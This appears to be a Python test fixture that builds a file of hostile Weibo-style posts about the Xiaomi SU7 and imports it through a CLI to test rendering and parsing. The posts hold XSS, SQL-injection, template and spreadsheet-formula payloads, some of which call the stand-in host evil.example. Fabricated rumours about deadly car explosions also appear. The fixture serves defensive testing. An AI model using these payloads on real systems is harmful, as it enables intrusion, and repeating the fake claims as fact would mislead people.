"""Posts that nobody wishes for, as one file to import and one lake to look at: markup, tricks, sizes, times, masses."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from click.testing import CliRunner

import canyu
from canyu.cli import canyu as program
from canyu.kit.jsonio import parse_json

END = datetime(2025, 4, 14, tzinfo=UTC)
FIRST_DAY, LAST_DAY = "2025-03-17", "2025-04-14"
CHECKED_AT = "2025-04-14T00:05"
COPIES = 3_000
ELSEWHERE = "evil.example"
"""No browser may ask this host for anything."""

RUN = "window.hit=1;alert(1)"
TRICKS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script-closed": f"</script></style></textarea></title><script>{RUN}</script>",
    "image": f"<img src=//{ELSEWHERE}/x.png onerror={RUN}>",
    "svg": f"<svg/onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    "attribute": f'" autofocus onfocus={RUN} x="',
    "attribute-single": f"' onmouseover='{RUN}' style='position:fixed;inset:0",
    "attribute-bare": f"x onpointerenter={RUN} ",
    "link": f'<a href="javascript:{RUN}">点我</a> javascript:{RUN} [点我](javascript:{RUN})',
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><base href=//{ELSEWHERE}/>",
    "style": f"<style>@import'//{ELSEWHERE}/x.css';*{{display:none!important}}</style>",
    "form": f"<form action=//{ELSEWHERE}><button>登录</button></form><meta http-equiv=refresh content=0;//{ELSEWHERE}>",
    "htmx": f'<div hx-get="//{ELSEWHERE}" hx-trigger="load" hx-on:load="{RUN}"></div>',
    "template": "{{ 7*7 }}{% debug %}{# x #}${7*7}#{7*7}<%= 7*7 %>",
    "json": '</script>"}]};' + RUN + "//\u2028\u2029",
    "comment": f"--><script>{RUN}</script><!-- ]]> <![CDATA[ ]]>",
    "formula": f'=HYPERLINK("http://{ELSEWHERE}","点我")',
    "entities": "&lt;script&gt;&#x3C;b&#x3E;&amp;amp;&nbsp;",
    "format": "%s %d %(name)s {0} {name} {!r} \\n \\u0041 \\x00",
    "sql": "'; DROP TABLE events; -- \" OR 1=1 /* */ `",
    "bidi": "\u202egnp.exe\u202c \u2066别的 \u2067يمين\u2069 \u200f\u200e",
    "zalgo": "Z" + "\u0310\u0356\u0317" * 60 + "algo" + "\u0489" * 40,
    "marks-only": "\u0300" * 300,
    "zero-width": "小\u200b米\u200d\u2060\ufeff品\u00ad牌\u180e",
    "controls": "\x00\x01\x07\x08\x1b[31m红\x1b]0;标题\x07\x7f\x85\x9b",
    "null-word": "null None NaN undefined -Infinity [object Object] \\N",
    "word": "超" * 6_000,
    "latin-word": "A" * 6_000,
    "lines": "\r\n" * 3_000 + "\v\f\t",
    "emoji": "😡🤮🚗💥👨‍👩‍👧‍👦🏳️‍🌈🇨🇳" * 40,
    "astral": "𝕏𝖎𝖆𝖔𝖒𝖎 𠮷野家 \U000f0000\U0010ffff\ufffe\uffff",
    "one-letter": "车",
    "spaces": " \u3000\u00a0\u2003 ",
}
"""Each is posted about a brand, as a review, as a claim and by several accounts at once, and names its author."""

ALONE: dict[str, str] = {
    "emoji-only": "😡" * 500,
    "megabyte": "小米SU7刹车失灵" * 45_000 + "<script>",
    "over-a-megabyte": "长" * 400_000,
    "nothing": "",
}
"""Posted as they are."""

SHOWN = ("script", "image", "svg", "attribute", "link", "template", "entities", "format", "sql", "form", "htmx")
"""Those whose every letter can be looked for on a page."""


def write_hostile_file(path: Path) -> int:
    """Write JSON Lines with the events' own field names, some of them broken; return how many lines there are."""
    lines = [
        json.dumps(row, ensure_ascii=False) for row in (*_list_calm(), *_list_tricks(), *_list_alone(), *_list_masses())
    ]
    lines += [
        json.dumps(_row("surrogate", END - timedelta(hours=1), "小米SU7")).replace("SU7", "SU7\\ud83d 刹车失灵\\udc00"),
        json.dumps(_row("epoch", datetime(1970, 1, 1, tzinfo=UTC), "小米SU7")),
        json.dumps(_row("far", datetime(2099, 12, 31, tzinfo=UTC), "小米SU7")),
        '{"id": "cut',
        "null",
        "[]",
        "\x00\x00",
    ]
    path.write_text("\n".join(lines) + "\n", "utf-8", "surrogatepass")
    return len(lines)


def fill_hostile_lake(path: Path) -> canyu.Lake:
    """Import the file, listen and look for alerts, all by the commands that a person would use."""
    file = path.with_name("hostile.jsonl")
    write_hostile_file(file)
    run("import", str(file), "--lake", str(path), "--json")
    run("listen", "--lake", str(path), "--json")
    return canyu.open(path)


def run(*words: str, code: int = 0) -> Any:
    """Run a command in this process; return its last line, read as JSON where it is."""
    done = CliRunner().invoke(program, list(words), catch_exceptions=False)
    assert done.exit_code == code, done.output[-2_000:]
    last = (done.stdout.strip().splitlines() or [""])[-1]
    return parse_json(last) if last.startswith(("{", "[")) else done.stdout


def make_id(name: str, kind: str) -> str:
    """The id of an event, hostile as well."""
    return f"{kind}:{name}<b>&\"'%2F"


def _list_calm() -> list[dict[str, Any]]:
    """Two posts an hour for four weeks: what the last hours are compared with."""
    return [
        _row(
            f"{hour}-{turn}", END - timedelta(hours=hour, minutes=30 * turn), f"小米SU7上路第{hour}天，外观好看", "calm"
        )
        for hour in range(1, 28 * 24)
        for turn in (0, 1)
    ]


def _list_tricks() -> list[dict[str, Any]]:
    rows = []
    for number, (name, trick) in enumerate(TRICKS.items()):
        at = END - timedelta(minutes=110 - number)
        author = f"{trick[:300]}"
        rows.append(_row(name, at, f"小米SU7刹车失灵，续航不行{trick}", "review", actor=author, likes=900 + number))
        claim = f"紧急扩散！网传小米SU7{trick[:200]}充电时爆炸，3人死亡，记者被封口，请马上转发给家人！"
        rows.append(_row(name, at - timedelta(days=2), claim, "claim", actor=author))
        rows += [
            _row(f"{name}-{turn}", at - timedelta(days=1, minutes=-turn), f"求证{trick[:100]}真的吗", "comment",
                 type="comment", parent=make_id(name, "claim"), actor=f"{author}{turn}")
            for turn in range(3)
        ]  # fmt: skip
        pushed = f"{trick[:120]}这次小米SU7的交付速度真的让人意外第{number}批，朋友们都说值得等"
        rows += [
            _row(f"{name}-{turn}", at - timedelta(days=3 + number % 3, seconds=-20 * turn), pushed, "pushed",
                 actor=f"{name}{turn}{trick[:60]}")
            for turn in range(5)
        ]  # fmt: skip
        rows.append(
            _row(
                name,
                END - timedelta(hours=6),
                f"小米{trick[:100]}",
                "board",
                type="observe",
                object=f"小米{trick[:100]}",
                value=number % 50 + 1,
                props={"metric": "hot_rank", "heat": 9},
            )
        )
        rows.append(
            _row(
                name,
                END - timedelta(hours=5),
                f"小米SU7{trick[:40]}",
                "series",
                type="observe",
                object=f"小米SU7{trick[:40]}",
                value=number,
                props={"metric": "search_index"},
            )
        )
    return rows  # fmt: skip


def _list_alone() -> list[dict[str, Any]]:
    return [_row(name, END - timedelta(minutes=20), text, "alone") for name, text in ALONE.items()]


def _list_masses() -> list[dict[str, Any]]:
    """One text some thousand times, by some thousand accounts."""
    text = f"小米SU7刹车失灵，大家都来看看{TRICKS['svg']}"
    start = END - timedelta(hours=30)
    return [_row(str(n), start + timedelta(seconds=n), text, "mass", actor=f"m{n}") for n in range(COPIES)]


def _row(name: str, at: datetime, text: str, kind: str = "alone", **more: Any) -> dict[str, Any]:
    row = {"id": make_id(name, kind), "type": "post", "time": at.isoformat(), "received": at.isoformat()}
    row |= {"source": "hand", "channel": "weibo", "market": "CN", "actor": f"<i>{name}</i>", "text": text}
    likes = more.pop("likes", None)
    props = {**more.pop("props", {}), **({"likes": likes} if likes is not None else {})}
    return row | {"props": props} | more
